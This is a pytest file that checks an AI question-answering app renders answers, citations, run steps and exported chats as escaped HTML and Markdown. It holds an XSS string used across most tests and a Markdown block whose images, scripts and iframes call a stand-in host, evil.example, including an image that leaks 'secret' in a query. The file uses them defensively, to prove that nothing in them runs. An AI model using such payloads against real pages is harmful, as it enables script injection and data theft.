"""Runs and turns as HTML: everything a run says is shown, and all of it is text."""

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from io import BytesIO
from typing import Any
from zipfile import ZipFile

import pytest
from markdown_it import MarkdownIt

from core.documents.model import Block, Chunk, Stage
from core.models.meter import ModelPhase
from core.platform.texts import text
from core.rulebook.model import Assessment, AssessmentReason
from core.runs.events import (
    SEARCH_UNFINISHED,
    AnswerDelta,
    AnswerReady,
    AttachmentsRead,
    BudgetSet,
    ConsentAsked,
    Degraded,
    Event,
    EvidenceAssessed,
    GraphTouched,
    MemoriesRecalled,
    MemorySaved,
    ModelAsked,
    ModelCalled,
    ModelProgress,
    NodeFinished,
    NodeStarted,
    PassagesGraded,
    RulesAnswered,
    RunFailed,
    RunFinished,
    RunStarted,
    RunStopped,
    Scored,
    ToolCalled,
)
from core.runs.execution.attachments import READ_ATTACHMENTS
from core.runs.history.view import RunView, StepView, fold
from core.runs.model import (
    Attachment,
    AttachmentStatus,
    Complaint,
    Feedback,
    QuestionPart,
    Run,
    RunRequest,
    RunStatus,
    Usage,
    Verdict,
)
from core.search.model import Citation, FoundPassage, Passage, ShownPassage, TableRow
from pages.components.chat.export import chat_markdown, chats_zip, turn_markdown
from pages.components.chat.workflow_choices import prepare_pictures
from pages.components.run.citation_html import CitedPlaces, panels_html, sources_html
from pages.components.run.run_html import outcome_chip, run_parts
from pages.components.run.run_words import engine_words, outcome_words, sentence
from pages.components.run.step_html import inputs_of
from pages.components.run.turn_actions import (
    Beside,
    Offer,
    actions_part,
    compare_part,
    edit_part,
    facts_part,
    feedback_part,
    follow_up_part,
)
from pages.components.run.turn_html import answer_part, state_part, turn_parts
from pages.components.shell.language import use_language
from pages.components.shell.times import ago, duration, time_of_day
from tests.fakes.runs import FakeRunLog, FakeThreads
from tests.fakes.services import FakeServices
from tests.pages.marlow import NOW

pytestmark = pytest.mark.usefixtures("opened")
RUN = Run("r", "t", "b", "Why?", "adaptive", "built-in", RunStatus.DONE, NOW)
EVIL = "<script>alert('x')</script>\"'>"
CITED = Citation(1, EVIL, EVIL, EVIL, 0, ((0, (100, 100, 500, 200)), (1, (0, 0, 2000, -5))), EVIL, 0.7)
SHOWN = ShownPassage(1, (EVIL, EVIL), f"{EVIL}\n{EVIL}", ((0, len(EVIL)),))
PASSAGE = Scored(EVIL, EVIL, 3, EVIL, 0.42, ("lexical", EVIL), EVIL)
SAID = replace(RUN, question=EVIL, answer=f"{EVIL} [1]", outcome=EVIL, engine=EVIL, workflow=EVIL, citations=(CITED,))
BESIDE = Beside((replace(SAID, id=EVIL), SAID), (replace(SAID, id=EVIL), SAID))
EVERYTHING: tuple[Event, ...] = (
    RunStarted(EVIL, EVIL, EVIL),
    NodeStarted(EVIL, 2),
    MemoriesRecalled((("m", EVIL),)),
    PassagesGraded(EVIL, (PASSAGE,), (PASSAGE, PASSAGE)),
    EvidenceAssessed(Assessment(0.5, 0.58, (AssessmentReason(EVIL), AssessmentReason(EVIL)))),
    GraphTouched(EVIL, (EVIL, "e2")),
    MemorySaved("m", EVIL, EVIL),
    ModelCalled(EVIL, EVIL, EVIL, 1.0, Usage(1, 10, 5)),
    ToolCalled(EVIL, EVIL, EVIL, 0.5),
    Degraded(EVIL, EVIL),
    NodeFinished(EVIL, 2, 0.5, EVIL, EVIL, ((EVIL, EVIL),), Usage(1, 10, 5)),
    RulesAnswered(AnswerReady(f"{EVIL} [1]", (CITED,), passages=(SHOWN, replace(SHOWN, folded=True)))),
    ModelProgress(ModelPhase.READING, 40),
    AnswerReady(f"{EVIL} [1]", (CITED,), (EVIL,), passages=(SHOWN, replace(SHOWN, folded=True)), stands_in=SHOWN),
)


def html_of_all(view: RunView) -> str:
    parts = [
        *turn_parts(view, CitedPlaces((EVIL,))),
        *run_parts(view),
        ("actions", actions_part(RUN, view, Offer())),
        ("follow", follow_up_part((EVIL,))),
        ("edit", edit_part(SAID, BESIDE)),
        ("facts", facts_part(SAID, view, BESIDE)),
        ("compare", compare_part(BESIDE)),
        ("feedback", feedback_part(Feedback(EVIL, Verdict.DOWN, Complaint.WRONG, EVIL))),
    ]
    return "\n".join(html for _, html in parts)


@pytest.mark.parametrize(
    "end",
    [RunFinished(EVIL, 2.0, Usage(1, 10, 5)), RunFailed(EVIL, ((EVIL, EVIL),)), RunStopped(1.0), NodeStarted(EVIL, 3)],
)
def test_nothing_a_run_says_is_markup(end: Event) -> None:
    shown = html_of_all(fold([*EVERYTHING, end]))
    assert "<script" not in shown
    assert "alert(" in shown
    assert shown.count("<div") == shown.count("</div>")


@pytest.mark.parametrize("quoted", [(0, 0, 9, 9), (0, 9, 9, 12)])
def test_a_figure_stands_with_the_answer_that_quotes_it_or_its_caption(
    opened: FakeServices, quoted: tuple[int, int, int, int]
) -> None:
    picture = Block(1, 2, "image", "90 80 70", box=(0, 0, 9, 9))
    caption = Block(2, 2, "image_caption", "Figure 1: Recall.", box=(0, 9, 9, 12))
    text = Block(3, 2, "text", "Recall grows.", box=(0, 12, 9, 15))
    opened.library.passages.make_blocks = lambda _: [picture, caption, text]
    cited = replace(CITED, document_id="d1", boxes=((2, quoted), (2, (0, 12, 9, 15))))
    over = CitedPlaces(("d1",), is_whole=True)

    def drawn(citation: Citation, evidence: CitedPlaces = over, **more: Any) -> str:
        ready = AnswerReady("Recall [1].", (citation,), **more)
        return dict(turn_parts(fold([ready, RunFinished("answered", 1.0, Usage())]), evidence))["passages"]

    assert drawn(cited).count("<figure") == drawn(cited, passages=(replace(SHOWN, number=1),)).count("<figure") == 1
    assert 'src="/files/figure/d1/2/0%2C0%2C9%2C9.png?token=' in drawn(cited)
    assert 'width="13" height="17"' in drawn(cited), "its room is there before the picture is"
    assert "<figure" not in drawn(cited, CitedPlaces(("d1",)))
    assert "<figure" not in drawn(replace(cited, boxes=((2, (0, 12, 9, 15)),)))


def test_instant_steps_in_a_row_that_have_nothing_to_show_are_one_row() -> None:
    times = [("guard", 0.0), ("plan", 0.01), ("search", 0.0), ("grade", 0.3), ("write", 0.0), ("check", 0.01)]
    events: list[Event] = []
    for node, seconds in times:
        found = [MemoriesRecalled((("m", EVIL),))] if node == "search" else []
        events += [NodeStarted(node, 1), *found, NodeFinished(node, 1, seconds, "done")]
    for view in (fold(events), fold([*events, RunFinished("answered", 0.4, Usage())])):
        rows = [html for name, html in run_parts(view) if name.startswith("step-") and html]
        assert [row.count('data-key="step-') for row in rows] == [2, 1, 1, 2]
        assert 'data-key="instant-0">' in rows[0], "folded"


def test_later_attempts_are_folded_once_the_run_is_over() -> None:
    went = [("search", 1), ("grade", 1), ("search", 2), ("grade", 2), ("write", 1)]
    events = [event for node, n in went for event in (NodeStarted(node, n), NodeFinished(node, n, 0.1, "done"))]
    running = dict(run_parts(fold(events)))
    ended = dict(run_parts(fold([*events, RunFinished("answered", 1.0, Usage())])))
    assert all(running[f"step-{at}"].count("<summary") == 1 for at in range(5))
    assert ended["step-2"].count("<summary") == 3
    assert 'data-key="attempt-2">' in ended["step-2"]
    assert ended["step-3"] == ""
    assert ended["step-4"] == running["step-4"]


def test_a_step_shows_all_that_happened_in_it() -> None:
    step = dict(run_parts(fold(EVERYTHING)))["step-0"]
    for words in (
        "attempt 2",
        "Passages kept (1)",
        "Passages rejected (2)",
        "Entities used: 2",
        "Memories looked at (1)",
    ):
        assert words in step
    for words in (
        "Saved to memory",
        "Prompt sent",
        "Arguments",
        "The built-in rule was used instead",
        "score 0.42",
        "found by words",
    ):
        assert words in step


def test_numbers_are_apart_from_the_words_for_readers() -> None:
    parts = dict(run_parts(fold(EVERYTHING)))
    assert "data-numbers" in parts["head"]
    plain, _, numbers = parts["step-0"].partition('<div class="gt-builder">')
    assert "Prompt sent" not in plain
    assert "Prompt sent" in numbers
    assert "Input of the step" in numbers
    assert '<span class="gt-builder">score 0.42</span>' in plain


def test_a_step_had_what_the_steps_before_it_brought() -> None:
    before = (
        StepView("plan", 1, details=(("resolved", "Who runs Marlow?"), ("route", "chunks"))),
        StepView("rewrite_query", 1, details=(("query", "first"),)),
        StepView("rewrite_query", 2, details=(("query", "marlow director"),)),
        StepView("grade_evidence", 1, kept=(PASSAGE,), memories=(("m", "text"),)),
    )
    assert inputs_of("Who runs it?", ()) == (("question", "Who runs it?"),)
    assert dict(inputs_of("Who runs it?", before)) == {
        "question": "Who runs Marlow?",
        "route": "chunks",
        "query": "marlow director",
        "kept": "1",
        "memory": "1",
    }


def test_a_step_under_way_is_active_and_one_that_broke_has_failed() -> None:
    running = fold([RunStarted("q", "adaptive", "built-in"), NodeStarted("plan", 1)])
    assert "is-active" in dict(run_parts(running))["step-0"]
    failed = replace(running, status=RunStatus.FAILED)
    assert "is-failed" in dict(run_parts(failed))["step-0"]
    assert 'class="gt-node is-failed"' in dict(run_parts(failed))["drawing"]


def test_a_step_says_the_tokens_of_its_calls_without_being_opened() -> None:
    summary = dict(run_parts(fold(EVERYTHING)))["step-0"].partition("</summary>")[0]
    assert "15 tokens" in summary


def test_tokens_that_were_estimated_are_said_to_be() -> None:
    called = ModelCalled("plan", "Ask.", "Said.", 1.0, Usage(1, 1_200, 30, estimated=True))
    view = fold([RunStarted("q", "adaptive", "m"), BudgetSet(24, 60_000, 180, 16), NodeStarted("plan", 1), called])
    parts = dict(run_parts(view))
    assert "≈1,230 of 60,000 tokens" in parts["head"]
    assert "≈1,230 tokens" in parts["step-0"].partition("</summary>")[0]
    assert "estimated: the endpoint did not report tokens" in parts["step-0"]


def test_the_head_of_a_run_with_a_model_says_what_it_took_of_its_budget() -> None:
    called = ModelCalled("plan", "Ask.", "Said.", 1.0, Usage(2, 1_200, 30))
    begun: list[Event] = [RunStarted("q", "adaptive", "m"), BudgetSet(24, 60_000, 180, 16), NodeStarted("plan", 1)]
    head = dict(run_parts(fold([*begun, called, RunFinished("answered", 4.2, Usage(2, 1_200, 30))])))["head"]
    for fact in ("4.2 s of 3 min", "2 of 24 model calls", "1,230 of 60,000 tokens"):
        assert f"<li>{fact}</li>" in head
    assert " of 3 min" not in dict(run_parts(fold([*begun, RunFinished("answered", 0.1, Usage())])))["head"]


def test_the_drawing_can_be_enlarged_once_nothing_in_it_changes_any_more() -> None:
    running = fold([RunStarted("q", "adaptive", "built-in"), NodeStarted("plan", 1)])
    over = replace(running, status=RunStatus.DONE)
    assert "<dialog" not in dict(run_parts(running))["enlarged"]
    assert 'data-opens="drawing"' in dict(run_parts(over))["drawing"]
    assert 'data-panel="drawing"' in dict(run_parts(over))["enlarged"]


def test_who_is_asked_about_the_web_sees_the_query_and_not_that_something_is_under_way() -> None:
    asking = fold([RunStarted("q", "adaptive", "built-in"), NodeStarted("plan", 1), ConsentAsked(EVIL)])
    parts = dict(turn_parts(asking, CitedPlaces()))
    assert parts["answer"] == ""
    assert "alert(" in parts["consent"]
    assert "<script" not in parts["consent"]
    assert all(f'data-value="{word}"' in parts["consent"] for word in ("once", "thread", "no"))


def test_an_answer_that_the_model_did_not_write_says_why() -> None:
    step = (NodeStarted("generate", 1), Degraded("generate", "llm.key_refused"))
    ended = RunFinished("answered", 1.0, Usage())
    parts = dict(turn_parts(fold([RunStarted("q", "adaptive", "m"), *step, ended]), CitedPlaces()))
    assert "The model endpoint refused the key" in parts["failure"]
    assert "The built-in engine answered instead." in parts["failure"]
    kept = AnswerReady("Begun", (), interrupted=True)
    parts = dict(turn_parts(fold([RunStarted("q", "adaptive", "m"), *step, kept, ended]), CitedPlaces()))
    assert "kept as far as it came" in parts["failure"]


def test_a_step_at_which_the_model_failed_is_named_in_words() -> None:
    called = ModelCalled("fix_generation", "Ask.", "Said.", 1.0, Usage(1, 10, 5))
    step = (NodeStarted("fix_generation", 1), called, Degraded("fix_generation", "llm.timeout"))
    shown = dict(run_parts(fold([RunStarted("q", "guarded", "m"), *step])))["step-0"]
    assert "The model failed at “Correct the answer”" in shown
    assert "Model call “Correct the answer”" in shown


def test_an_answer_of_an_unfinished_search_says_so() -> None:
    step = (NodeStarted("retrieve", 1), Degraded("retrieve", SEARCH_UNFINISHED))
    view = fold([RunStarted("q", "guarded", "built-in"), *step, RunFinished("answered", 1.0, Usage())])
    shown = dict(turn_parts(view, CitedPlaces()))
    assert "still being prepared" in shown["unfinished"]
    assert shown["failure"] == "", "no model has failed"
    assert "The model failed" not in dict(run_parts(view))["step-0"]
    assert "still being prepared" in dict(run_parts(view))["step-0"]


def test_an_answer_of_the_graph_leads_there() -> None:
    begun, ended = RunStarted("q", "adaptive", "built-in"), RunFinished("answered", 1.0, Usage())

    def button(outcome: str, **details: str) -> str:
        told = NodeFinished("tell_graph", 1, 1.0, outcome, details=tuple(details.items()))
        touched = GraphTouched("tell_graph", ("e1",))
        return dict(turn_parts(fold([begun, NodeStarted("tell_graph", 1), touched, told, ended]), CitedPlaces()))[
            "told"
        ]

    assert 'data-event="step" data-value="0"' in button("told")
    assert 'data-event="names" data-value="&lt;script' in button("told", type="<script>alert()</script>")
    assert button("search") == ""


def test_a_run_stopped_before_its_answer_does_not_claim_to_have_kept_one() -> None:
    parts = dict(turn_parts(fold([RunStarted("q", "adaptive", "m"), RunStopped(1.0)]), CitedPlaces()))
    assert "kept" not in parts["end"]
    assert "before anything was written" in parts["end"]


@pytest.mark.parametrize(("language", "word"), [("en", "stopped"), ("zh-hans", "已停止"), ("zh-hant", "已停止")])
def test_a_stopped_step_is_called_stopped_in_the_list_and_in_the_drawing(language: str, word: str) -> None:
    prepare_pictures()
    steps = (NodeStarted("guard", 1), NodeFinished("guard", 1, 0.1, "passed"), NodeStarted("detect_language", 1))
    view = fold([RunStarted("q", "adaptive", "m"), *steps, RunStopped(1.0)])
    with use_language(language):
        parts = dict(run_parts(view))
    assert 'class="gt-step is-stopped"' in parts["step-1"]
    assert f'<span class="gt-chip">{word}</span>' in parts["step-1"]
    assert "…" not in parts["step-1"]
    for drawing in ("drawing", "enlarged"):
        assert parts[drawing].count('class="gt-node is-stopped"') == 1
        assert "is-active" not in parts[drawing]


def test_below_a_question_stands_how_far_its_files_are_or_why_they_are_not_read() -> None:
    reading = Attachment("<b>.pdf", AttachmentStatus.RUNNING, 0.4, Stage.PARSE)
    begun: list[Event] = [RunStarted("q", "adaptive", "m"), NodeStarted(READ_ATTACHMENTS, 1)]
    begun.append(AttachmentsRead((reading,)))
    parts = dict(turn_parts(fold(begun), CitedPlaces()))
    assert "Reading &lt;b&gt;.pdf: 40% (Read)" in parts["attached"]
    assert '<progress value="0.4" aria-hidden="true">' in parts["attached"]
    assert "Reading the attached files" in parts["state"]
    failed = replace(reading, status=AttachmentStatus.FAILED, error_key="ingest.error.empty")
    done = NodeFinished(READ_ATTACHMENTS, 1, 2.0, "not_read")
    ended: list[Event] = [AttachmentsRead((failed,)), done, NodeStarted("guard", 1)]
    with use_language("zh-hant"):
        told = dict(turn_parts(fold([*begun, *ended]), CitedPlaces()))["attached"]
    assert "無法讀取" in told
    assert "已用現有文件回答該問題" in told
    assert dict(turn_parts(fold([RunStarted("q", "adaptive", "m")]), CitedPlaces()))["attached"] == ""


def test_a_refused_search_key_leads_to_settings() -> None:
    refused = (NodeStarted("web_search", 1), Degraded("web_search", "web_search.key_refused"))
    step = dict(run_parts(fold([RunStarted("q", "adaptive", "built-in"), *refused])))["step-0"]
    assert "Check it in Settings" in step
    assert 'data-event="settings"' in step


def test_there_is_never_an_empty_turn() -> None:
    started = RunStarted("q", "adaptive", "built-in")
    ends: tuple[tuple[Event, ...], ...] = (
        (started,),
        (started, RunFinished("answered", 1.0, Usage())),
        (started, RunStopped(1.0)),
        (started, RunFailed("run.interrupted")),
        (started, RunFailed("error.run_missing")),
    )
    for events in ends:
        parts = dict(turn_parts(fold(events), CitedPlaces()))
        assert parts["answer"] or parts["end"] or "is-running" in parts["state"]


def test_a_workflow_that_is_gone_has_no_picture_but_its_steps() -> None:
    parts = dict(run_parts(fold([RunStarted("q", "gone_workflow", "x"), NodeStarted("plan", 1)])))
    assert parts["drawing"] == ""
    assert "gone workflow" in parts["head"]
    assert parts["step-0"]


def test_reasons_are_catalogue_keys_with_their_values_or_sentences() -> None:
    assert sentence("run.reason.retrieved", (("count", "6"), ("threshold", "0.5"))) == (
        "6 passages are close enough to the question."
    )
    assert sentence("run.reason.retrieved", (("count", "1"),)) == "1 passage is close enough to the question."
    assert "zh" not in sentence("run.reason.language", (("language", "zh-hans"),))
    assert sentence("The model's own words.") == "The model's own words."
    assert "another version" in sentence("run.reason.retrieved", ())


def test_engine_and_languages_are_named_in_the_language_of_the_interface() -> None:
    with use_language("zh-hans"):
        assert engine_words("built-in") == "内置引擎"
        assert outcome_words("zh-hans") == "简体中文"
        assert outcome_words("de") == "德文"
    assert engine_words("gpt-4.1-mini") == "gpt-4.1-mini"


def test_boxes_stay_on_their_page_and_every_page_is_an_image() -> None:
    panel = panels_html([CITED], CitedPlaces((EVIL,)))
    assert panel.count("data-src=") == 2
    assert "left:10.0%;top:10.0%;width:40.0%;height:10.0%" in panel
    assert "left:0.0%;top:0.0%;width:100.0%;height:0.0%" in panel


def test_a_document_without_pages_shows_the_passage_with_the_quote_marked() -> None:
    chunk = Chunk("c1", "d1", 0, f"Before. Quoted words. {EVIL}", ("Top", EVIL), ())
    cited = replace(CITED, chunk_id="c1", text="Quoted words. … elsewhere")
    panel = panels_html([cited], CitedPlaces((), (Passage(chunk, "notes.md", 0.5),)))
    assert "<mark>Quoted words.</mark>" in panel
    assert "Top ›" in panel
    assert "<script" not in panel
    assert "data-src=" not in panel


def test_a_place_that_is_gone_says_so() -> None:
    assert "the quoted words are shown above" in panels_html([CITED], CitedPlaces())


def test_sources_are_listed_by_number() -> None:
    second = replace(CITED, number=2, document_name="b.pdf", page=4)
    listed = sources_html([CITED, second], CitedPlaces())
    assert listed.index('data-opens="1"') < listed.index('data-opens="2"')
    assert "page 5" in listed


def test_words_that_came_with_an_edit_are_told_from_those_of_the_document() -> None:
    chunk = Chunk("c1", "d1", 0, "It drifts. Mira built it.", (), (), original="It drifts.\nSomeone built it.")
    evidence = CitedPlaces(("d1",), (Passage(chunk, "a.pdf", 0.5),))
    cited = replace(CITED, chunk_id="c1", document_id="d1")
    for words, is_edited in (("It drifts. … Mira built it.", True), ("It drifts.", False)):
        quoting = replace(cited, text=words)
        for html in (sources_html([quoting], evidence), panels_html([quoting], evidence)):
            assert ("edited passage" in html) is is_edited
    assert "edited passage" not in sources_html([replace(cited, text="Mira built it.")], CitedPlaces())


def test_documents_that_are_cited_together_stand_side_by_side() -> None:
    second = replace(CITED, number=2, document_id="b", document_name="b.pdf")
    web = replace(CITED, number=3, document_id="", url="https://example.org")
    assert 'data-opens="beside"' not in sources_html([CITED, replace(CITED, number=2), web], CitedPlaces())
    assert 'data-opens="beside"' in sources_html([CITED, second], CitedPlaces())
    panel = panels_html([CITED, second, web], CitedPlaces(pictured=("b",))).partition('data-panel="beside"')[2]
    assert panel.count("<section>") == 2
    assert panel.count("data-src=") == len({page for page, _ in CITED.boxes})
    assert "<script" not in panel


def test_an_answer_is_exported_with_its_sources() -> None:
    cited = replace(CITED, document_name="handbook.pdf", text="Quoted\nwords.")
    view = fold([RunStarted("Why?", "adaptive", "x"), AnswerReady("Because [1].", (cited,))])
    ended = replace(view, status=RunStatus.DONE, outcome="answered")
    facts = f"*{NOW:%Y-%m-%d %H:%M} UTC · Adaptive · answered*"
    assert turn_markdown(ended) == (
        "**Why?**\n\nBecause [1].\n\n**Sources**\n\n1. handbook.pdf, page 1: “Quoted words.”\n"
    )
    assert chat_markdown("A\nchat", [(RUN, ended)]).startswith(f"# A chat\n\n## Why?\n\n{facts}\n\nBecause [1].")
    stopped = replace(view, status=RunStatus.STOPPED)
    assert "· stopped*" in chat_markdown("A chat", [(RUN, stopped)])


def test_all_chats_are_one_file_with_every_branch() -> None:
    threads, log = FakeThreads(), FakeRunLog()
    thread = threads.create('What: "drifts"/../x?', "b", "adaptive")
    for question in ("What drifts?", "What sinks?"):
        run = log.start(RunRequest(question, "b", after=""), thread.id, "built-in")
        log.finish(replace(run, status=RunStatus.DONE, outcome="answered", answer="Kelp [1].", citations=(CITED,)))
    with ZipFile(BytesIO(chats_zip([replace(thread, leaf_id=run.id)], log))) as archive:
        (name,) = (name for name in archive.namelist() if name != "chats.json")
        assert name == "0001 What_ _drifts__.._x_.md"
        assert "## What sinks?" in (shown := archive.read(name).decode())
        assert "What drifts?" not in shown.partition("## ")[2]
        (kept,) = json.loads(archive.read("chats.json"))
    assert [run["question"] for run in kept["runs"]] == ["What drifts?", "What sinks?"]
    assert kept["runs"][0]["citations"][0]["document_name"] == CITED.document_name


def test_passages_shown_for_an_answer_are_in_the_file_of_all_chats() -> None:
    threads, log = FakeThreads(), FakeRunLog()
    thread = threads.create("Drifting", "b", "adaptive")
    run = log.start(RunRequest("What drifts?", "b"), thread.id, "built-in")
    log.append(run.id, [AnswerReady("These come closest:", (CITED,), passages=(CLOSE,))])
    log.finish(replace(run, status=RunStatus.DONE, outcome="closest", answer="These come closest:", citations=(CITED,)))
    with ZipFile(BytesIO(chats_zip([replace(thread, leaf_id=run.id)], log))) as archive:
        assert "The crew lifts it" in archive.read("0001 Drifting.md").decode()


def test_an_answer_under_way_keeps_the_room_of_its_state() -> None:
    asked = fold([RunStarted("Why?", "adaptive", "x")])
    growing = replace(asked, answer="Beca")
    parts = [dict(turn_parts(view, CitedPlaces()))["state"] for view in (asked, growing)]
    assert ["Working on it" in parts[0], "Writing the answer" in parts[1]] == [True, True]
    assert state_part(replace(asked, asked="query")) == ""


@pytest.mark.parametrize(
    ("seconds", "expected"), [(0.0123, "12 ms"), (0.5, "0.50 s"), (4.26, "4.3 s"), (125.0, "2 min 5 s"), (180, "3 min")]
)
def test_durations_have_units(seconds: float, expected: str) -> None:
    assert duration(seconds) == expected


@pytest.mark.parametrize(
    ("seconds", "expected"),
    [(3, "just now"), (600, "10 min ago"), (7200, "2 h ago"), (170_000, "1 day ago"), (400_000, "4 days ago")],
)
def test_moments_are_said_as_people_do(seconds: int, expected: str) -> None:
    assert ago(NOW - timedelta(seconds=seconds), NOW) == expected
    assert ago((NOW - timedelta(seconds=seconds)).replace(tzinfo=None), NOW) == expected


def test_a_time_of_day_is_the_readers() -> None:
    moment = datetime(2026, 11, 20, 6, 5, 30, tzinfo=UTC)
    assert time_of_day(moment, -480) == "14:05:30", "Shanghai"
    assert time_of_day(moment, None) == f"{moment.astimezone():%H:%M:%S}", "the server's"


def test_an_old_moment_is_a_date() -> None:
    assert ago(NOW - timedelta(days=30), NOW) == "2026-10-21"
    assert ago(NOW + timedelta(days=1), NOW) == "2026-11-21", "the clock has been set back"


@pytest.mark.parametrize(
    ("language", "words", "limit"),
    [
        ("en", "has stopped in the middle", "3 min"),
        ("zh-hans", "在回答中途停住了", "3 分钟"),
        ("zh-hant", "在回答中途停住了", "3 分鐘"),
    ],
)
def test_a_model_that_stops_in_the_middle_of_an_answer_is_announced(language: str, words: str, limit: str) -> None:
    """Drawn with every piece and shown by the style sheet once no further piece has come for some seconds."""
    begun = fold(
        [
            RunStarted("Why?", "adaptive", "slow-model"),
            NodeStarted("generate", 1),
            ModelAsked("generate", 180.0),
            AnswerDelta("Because the"),
        ]
    )
    with use_language(language):
        answer = dict(turn_parts(begun, CitedPlaces()))["answer"]
        ended = dict(turn_parts(replace(begun, status=RunStatus.STOPPED), CitedPlaces()))["answer"]
    assert '<p class="gt-silent" role="status">' in answer
    assert words in answer
    assert "slow-model" in answer
    assert limit in answer
    assert "gt-silent" not in ended


HOSTILE = r"""**Bold** 3 < 4 and 5<6
\<img src=https://evil.example/d> \\<img src=x> \![z](https://evil.example/z) \\![z](https://evil.example/z)
![x](https://evil.example/?q=secret) ![y][r] <img src=https://evil.example/a onerror=alert(1)>
<script src="https://evil.example/s.js"></script><iframe src=https://evil.example></iframe>
<style>@import url(//e)</style>
```
![in code](https://evil.example/c) <b>
``` <img src=https://evil.example/b>
    <object data=https://evil.example></object>

[r]: https://evil.example/r
"""


class _Loading(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)


def test_a_saved_conversation_loads_and_runs_nothing_in_a_viewer_that_allows_html() -> None:
    citation = Citation(1, "c1", "d1", HOSTILE, 0, (), HOSTILE, 0.5, HOSTILE)
    view = RunView(question=HOSTILE, answer=HOSTILE, citations=(citation,))
    saved = chat_markdown(HOSTILE, [(RUN, view)])
    page = _Loading()
    page.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(saved))
    assert set(page.tags) <= {"h1", "h2", "p", "strong", "em", "ol", "ul", "li", "pre", "code", "a", "br", "hr"}
    assert "**Bold** 3 < 4 and 5<6" in saved


@pytest.mark.parametrize(
    ("answered", "looks", "words"),
    [((True, True), "is-good", "Answered from your documents"), ((True, False), "is-weak", "1 of 2 questions")],
)
def test_an_answer_to_one_of_two_questions_is_told_as_such(answered: tuple[bool, bool], looks: str, words: str) -> None:
    parts = tuple(QuestionPart(question, told) for question, told in zip(("Who?", "When?"), answered, strict=True))
    view = RunView(question="q", answer="a [1]", citations=(CITED,), parts=parts)
    shown = state_part(replace(view, status=RunStatus.DONE, outcome="answered"))
    assert looks in shown
    assert words in shown


def test_a_quoted_row_is_a_small_table_with_the_cell_marked_in_answer_source_and_export() -> None:
    row = TableRow(("Buoy", EVIL), ("L4", "88"), 1)
    line = f"Buoy: L4; {EVIL}: 88"
    citation = replace(CITED, row=replace(row, columns=("Buoy", "Depth")))
    answer = "**88 m**: “Buoy: L4; Depth: 88” [1]"
    view = RunView(question="q", answer=answer, citations=(citation,), status=RunStatus.DONE, outcome="answered")
    assert "<td><strong>88</strong></td>" in answer_part(view)
    assert "has-rows" in answer_part(view)
    assert "| L4 | **88** |" in turn_markdown(view)
    hostile = replace(view, answer=f"“{line}” [1]", citations=(replace(CITED, row=row),))
    panel = dict(turn_parts(hostile, CitedPlaces()))["panels"]
    assert "<td><mark>88</mark></td>" in panel
    assert "<script" not in panel + answer_part(hostile)


def test_the_ways_to_read_a_question_are_buttons_that_ask_it() -> None:
    view = RunView(question="q", answer="Which?\n\n- One?\n- Two?", choices=("One?", EVIL), outcome="asked_back")
    parts = dict(turn_parts(replace(view, status=RunStatus.DONE), CitedPlaces()))
    assert parts["choices"].count('data-event="ask"') == 2
    assert 'data-value="One?"' in parts["choices"]
    assert "<script" not in parts["choices"]
    assert "Two?" not in parts["answer"]
    assert dict(turn_parts(view, CitedPlaces()))["choices"] == ""


@pytest.mark.parametrize(
    ("outcome", "looks"), [("answered", "is-good"), ("closest", "is-weak"), ("not_found", "is-bad")]
)
def test_an_outcome_has_the_same_colour_beside_the_answer_and_at_the_run(outcome: str, looks: str) -> None:
    view = RunView(question="q", answer="a [1]", citations=(CITED,), status=RunStatus.DONE, outcome=outcome)
    assert f'class="gt-state {looks}"' in state_part(view)
    assert f'class="gt-chip {looks}"' in outcome_chip(view)


def test_an_answer_that_is_only_probable_is_called_so() -> None:
    answer = f"{text('answer.frame.probably')} “The crew lifts it.” [1]"
    view = RunView(question="q", answer=answer, citations=(CITED,), status=RunStatus.DONE, outcome="answered")
    assert "Probably answered from your documents" in state_part(view)
    assert 'class="gt-state is-weak"' in state_part(view)
    assert 'class="gt-chip is-weak"' in outcome_chip(view)


CLOSE = ShownPassage(1, ("Care", "Buoys"), "Buoys\nThe crew lifts it. It is cleaned.", ((6, 24),))
BESIDE_IT = ShownPassage(2, (), "depth | 88 m\nprice | 12", (), folded=True)
WRITING = (RunStarted("q", "adaptive", "m"), NodeStarted("generate", 1), ModelAsked("generate", 60.0))
PLACES = (replace(CITED, document_name="care.pdf"), replace(CITED, number=2, document_name="log.pdf"))


def test_the_closest_passages_are_shown_as_they_stand_and_further_ones_folded() -> None:
    ready = AnswerReady("Closest.", PLACES, passages=(CLOSE, BESIDE_IT))
    parts = dict(turn_parts(fold([*WRITING, ready, RunFinished("closest", 1.0, Usage())]), CitedPlaces()))
    at_once, _, folded = parts["passages"].partition("<details")
    assert "<mark>The crew lifts it.</mark> It is cleaned." in at_once
    assert 'data-opens="1"' in at_once
    assert "care.pdf" in at_once
    assert "<h4>Care</h4>" in at_once, "the last heading stands in the passage itself"
    sentence, _, whole = folded.partition("</summary>")
    assert "<b>2</b> depth | 88 m price | 12" in " ".join(sentence.split()), "no sentence is near: its beginning"
    assert "<table" in whole
    assert 'data-panel="2"' in parts["panels"]
    assert parts["sources"] == "", "each passage names its own"


def test_a_sure_answer_has_the_passage_below_it_in_which_it_stands() -> None:
    ready = AnswerReady("The crew does [1].", PLACES[:1], stands_in=CLOSE)
    parts = dict(turn_parts(fold([*WRITING, ready, RunFinished("answered", 1.0, Usage())]), CitedPlaces()))
    assert "<mark>The crew lifts it.</mark>" in parts["passages"]
    assert "gt-room" not in parts["answer"], "no room was kept for a model"


@pytest.mark.parametrize("outcome", ["answered", "unconfirmed"])
def test_below_a_small_models_answer_is_what_the_rules_found_besides(outcome: str) -> None:
    other = FoundPassage(replace(CLOSE, number=2, text="It is rinsed.", marked=()), PLACES[1])
    ready = AnswerReady("The crew does [1].", PLACES[:1], stands_in=CLOSE, beside=(other,))
    parts = dict(turn_parts(fold([*WRITING, ready, RunFinished(outcome, 1.0, Usage())]), CitedPlaces()))
    above, words, below = parts["passages"].partition("Also found, without the model:")
    assert "The crew lifts it." in above
    assert words
    assert "It is rinsed." in below
    assert 'data-panel="2"' in parts["panels"]


def test_what_the_rules_know_is_shown_until_the_models_answer_takes_its_place_above() -> None:
    told = RulesAnswered(AnswerReady("Closest.", PLACES, passages=(CLOSE,)))
    begun: list[Event] = [WRITING[0], WRITING[1], told, WRITING[2]]
